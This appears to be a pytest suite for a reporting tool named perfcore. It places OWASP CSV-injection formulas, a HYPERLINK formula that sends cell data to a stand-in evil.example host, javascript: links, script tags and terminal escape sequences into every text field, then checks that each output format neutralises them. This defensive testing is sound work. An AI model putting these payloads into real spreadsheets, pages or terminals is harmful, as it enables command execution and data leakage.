"""Output safety: a plan's or a data file's text never becomes a live spreadsheet formula, a
Markdown link, image or heading, HTML, or a terminal escape sequence, in any format.

The payloads are OWASP's CSV-injection examples
(https://owasp.org/www-community/attacks/CSV_Injection), Markdown links and images
(a ``javascript:`` link, a tracking image, a line break that starts a heading) and
terminal sequences (an OSC title change, a screen clear, an 8-bit CSI, a bidi override, a
carriage return). Each is put in every text field of a plan — titles, names, statements,
leads, boards, assessment types, commentary, evidence, units, descriptions, sources,
rebase notes, column labels — and in the data's source column and organisation names as
written, and each output format is checked by rules of its own, written here
independently of perfcore's escaping.
"""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from pathlib import Path

import pytest

from perfcore.cli import main
from perfcore.pipeline import (
    ALL,
    evaluate_plan,
    league_plan,
    load_data,
    loads_plan,
    render,
    run,
)
from perfcore.report.combine import combine_rendered
from perfcore.report.league_render import LEAGUE_FORMATS, render_league

ROOT = Path(__file__).parents[1]

#: OWASP's CSV-injection payloads: each starts a cell.
FORMULAS = (
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "\t=1+2",
    "\r=1+2",
)
#: After the formula, in the same text: Markdown and terminal payloads.
REST = ("[x](javascript:alert(1)) ![i](http://evil.example/p.png) <http://evil.example>"
        "\n# Heading \x1b]0;pwned\x07\x1b[2J\x9b31m\u202e\rGreen <script>alert(1)</script>")

# Control characters a terminal acts on (all C0 but newline and tab, DEL, C1).
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
# What perfcore itself writes at the start of a CSV cell: a signed figure.
FIGURE = re.compile(r"[+-]\d[\d,]*(\.\d+)?(%| pp)?")


def _plan(text: str, organisation: str) -> str:
    t = json.dumps
    return f'''
format = "perfcore-plan/1"
[plan]
title = {t(text)}
organisation = {t(organisation)}
period = "12 months to June 2024"
[report]
period = "12 months to June 2024"
previous = "12 months to June 2023"
[display.labels]
change = {t(text)}
[[data]]
path = "data.csv"
loader = "csv"
options = {{ registry = false }}
[[priorities]]
id = "p"
title = {t(text)}
lead = {t(text)}
board = {t(text)}
assessment_type = {t(text)}
  [[priorities.outcomes]]
  id = "o"
  statement = {t(text)}
    [[priorities.outcomes.measures]]
    id = "crimes"
    name = {t(text)}
    kind = "count"
    polarity = "lower"
    unit = {t(text)}
    description = {t(text)}
    source = {t(text)}
      [[priorities.outcomes.measures.spc.rebase]]
      month = "2023-10"
      note = {t(text)}
    [[priorities.outcomes.measures]]
    id = "spend"
    name = {t(text)}
    kind = "money"
    polarity = "lower"
    unit = {t(text)}
    [[priorities.outcomes.measures]]
    id = "review"
    name = {t(text)}
    kind = "qualitative"
    polarity = "neutral"
    status = "amber"
    commentary = {t(text)}
    evidence = [{t(text)}]
'''


def _data(organisations: list[str], source: str) -> str:
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(["measure", "organisation", "period", "value", "source"])
    for org in organisations:
        for k in range(36):  # July 2021 – June 2024, for the monthly chart
            month = f"{2021 + (6 + k) // 12}-{(6 + k) % 12 + 1:02d}"
            w.writerow(["crimes", org, month, 100 + k % 7, source])
        for label, v in (("12 months to June 2023", 1200), ("12 months to June 2024", 1100)):
            w.writerow(["crimes", org, label, v, source])
            w.writerow(["spend", org, label, v * 10, source])
    return buf.getvalue()


def _write(folder: Path, text: str, organisations: list[str] | None = None) -> Path:
    # Loaders strip the spaces around a name (a leading tab or carriage return too).
    organisations = organisations or [text.strip()]
    (folder / "data.csv").write_text(_data(organisations, text), "utf-8")
    plan = folder / "plan.toml"
    plan.write_text(_plan(text, organisations[0]), "utf-8")
    return plan


def _check_csv(out: str, payload: str) -> None:
    rows = list(csv.reader(io.StringIO(out)))
    cells = [c for row in rows for c in row]
    live = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))
            and not FIGURE.fullmatch(c)]
    assert live == []
    # The texts are all there, as written, behind the apostrophe.
    assert cells.count("'" + payload) >= 3  # priority, outcome, source of each figure


def _check_markdown(out: str) -> None:
    lines = out.splitlines()
    # No link, image or autolink can open: every [ and < of a text is escaped.
    assert not re.search(r"(?<!\\)[\[\]]", out)
    assert "<" not in out and "javascript:alert(1))" in out
    # The report's own headings only: the title, the priority, the outcome and Notes.
    assert len([ln for ln in lines if re.match(r"#{1,6}\s", ln)]) == 4
    assert not CONTROL.search(out)


def _check_text(out: str) -> None:
    assert not CONTROL.search(out)
    assert "\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m\\u202e\\x0dGreen" in out


def _check_json(out: str, payload: str) -> None:
    assert not CONTROL.search(out) and "\u202e" not in out
    data = json.loads(out)
    # JSON is data: every text is kept exactly.
    assert data["title"] == payload
    assert data["sections"][0]["outcomes"][0]["measures"][0]["name"] == payload


def _check_html(out: str) -> None:
    assert "<script>alert" not in out
    assert not re.search(r"""(href|src)\s*=\s*["']?(javascript:|http://evil)""", out)


def _check_xlsx(out: bytes, payload: str) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.load_workbook(io.BytesIO(out))  # the file is well-formed
    cells = [c for ws in book for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    with zipfile.ZipFile(io.BytesIO(out)) as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.endswith(".xml"))
    # Text keeps what XML can hold (a carriage return is read back as a line feed): the
    # formula is stored as text.
    visible = re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", payload).replace("\r", "\n")
    assert any(str(c.value).replace("\r", "\n") == visible and c.data_type == "s"
               for c in cells)


@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
def test_every_text_field_is_neutralised_in_every_format(tmp_path: Path, formula: str) -> None:
    payload = formula + " " + REST
    result = run(_write(tmp_path, payload))
    assert result.report.title == payload  # the payload reached the report unchanged
    _check_text(str(result.render("text")))
    _check_text(str(result.render("text", colour=True)).replace("\x1b[34m", "")
                .replace("\x1b[33m", "").replace("\x1b[0m", ""))
    _check_markdown(str(result.render("markdown")))
    _check_html(str(result.render("html")))
    _check_json(str(result.render("json")), payload)
    _check_csv(str(result.render("csv")), payload)
    _check_xlsx(bytes(result.render("xlsx")), payload)


def test_markdown_payloads_render_as_text() -> None:
    """Rendered by a CommonMark parser, the texts make no link, image, HTML or heading."""
    markdown_it = pytest.importorskip("markdown_it")
    from perfcore.report.escape import markdown_block, markdown_inline
    for text in (REST, "[x](javascript:alert(1))", "![i](http://evil.example/p.png)",
                 "a\n# b", "1. item", "- item", "> quote", "<b>x</b>", "`code`", "**bold**",
                 "[x]: http://evil.example", "a | b", "\\[x](y)"):
        for escape, wrap in ((markdown_inline, "| a | {} |\n|---|---|\n| b | c |"),
                             (markdown_block, "- {}"), (markdown_block, "# {}")):
            html = markdown_it.MarkdownIt("commonmark").enable("table").render(
                wrap.format(escape(text)))
            assert not re.search(r"<(a|img|script|b|code|strong|ol|blockquote)\b", html), text
            assert len(re.findall(r"<h\d", html)) == (1 if wrap.startswith("#") else 0)
            assert len(re.findall(r"<li", html)) == (1 if wrap.startswith("-") else 0)


def test_league_and_combined_outputs_are_neutralised(tmp_path: Path) -> None:
    """The league (every force, national data) and several organisations in one output."""
    payload = FORMULAS[0] + " " + REST
    text = (ROOT / "examples" / "national" / "plan.toml").read_text("utf-8")
    text = re.sub(r'^(\s*(?:title|name|statement) = ).*$',
                  lambda m: m.group(1) + json.dumps(payload), text, flags=re.M)
    plan_file = loads_plan(text, base_dir=ROOT / "examples" / "national")
    ev = evaluate_plan(plan_file, load_data(plan_file), organisation=ALL)
    league = league_plan(plan_file, ev)
    assert league.title == payload or payload in league.tables[0].measure.name
    outs = {f: render_league(league, f) for f in LEAGUE_FORMATS}
    _check_text(outs["text"])
    assert not re.search(r"(?<!\\)[\[\]]", outs["markdown"]) and "<" not in outs["markdown"]
    _check_html(outs["html"])
    assert not CONTROL.search(outs["json"])
    rows = list(csv.reader(io.StringIO(outs["csv"])))
    assert not [c for r in rows for c in r if c.startswith(("=", "@", "\t", "\r"))]

    # Two organisations whose names, as written, are payloads: one output of each format.
    orgs = [payload, "@SUM(1+9)*cmd|' /C calc'!A0"]
    folder = tmp_path / "combined"
    folder.mkdir()
    plan_path = _write(folder, payload, orgs)
    pf = loads_plan(plan_path.read_text("utf-8"), file=plan_path, base_dir=folder)
    dataset = load_data(pf)
    results = [run(pf, organisation=org) for org in orgs]
    assert len(dataset.organisations) == 2
    reports = [r.report for r in results]
    for fmt in ("text", "markdown", "json", "csv", "html"):
        parts = [str(render(r, fmt)) for r in reports]
        combined = combine_rendered(fmt, reports, parts)
        if fmt == "csv":
            _check_csv(combined, payload)
            assert ["'" + orgs[1]] in [row[:1] for row in csv.reader(io.StringIO(combined))]
        elif fmt == "json":
            assert not CONTROL.search(combined)
            assert [d["organisation"]["code"] for d in json.loads(combined)] == orgs
        elif fmt in ("text", "markdown"):
            assert not CONTROL.search(combined)
        else:
            _check_html(combined)


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_any_format_written_to_a_terminal_shows_control_characters_escaped(
        tmp_path: Path) -> None:
    payload = FORMULAS[0] + " " + REST
    plan = _write(tmp_path, payload)
    for fmt in ("csv", "html", "json", "markdown", "text"):
        out, err = _Terminal(), io.StringIO()
        assert main(["report", str(plan), "--format", fmt], stdout=out, stderr=err) == 0
        # The text report is coloured on a terminal: those are perfcore's own sequences.
        shown = re.sub(r"\x1b\[(33|34|0)m", "", out.getvalue())
        assert not CONTROL.search(shown), fmt
        assert ("\x1b[34m" in out.getvalue()) == (fmt == "text")
    # A file gets the CSV exactly: its cells keep their characters.
    target = tmp_path / "report.csv"
    assert main(["report", str(plan), "-o", str(target)], stdout=io.StringIO(),
                stderr=io.StringIO()) == 0
    assert "\x1b]0;pwned" in target.read_text("utf-8")


def test_messages_quote_plan_text_without_its_control_characters(tmp_path: Path) -> None:
    """An error quoting a plan's value cannot carry an escape sequence to the terminal."""
    plan = _write(tmp_path, "x")
    text = plan.read_text("utf-8").replace('path = "data.csv"',
                                           'path = "data\\u001b]0;pwned\\u0007.csv"')
    plan.write_text(text, "utf-8")
    for command in ("report", "validate"):
        err = io.StringIO()
        assert main([command, str(plan)], stdout=io.StringIO(), stderr=err) == 1
        assert "data\\x1b]0;pwned\\x07.csv" in err.getvalue()
        assert not CONTROL.search(err.getvalue())
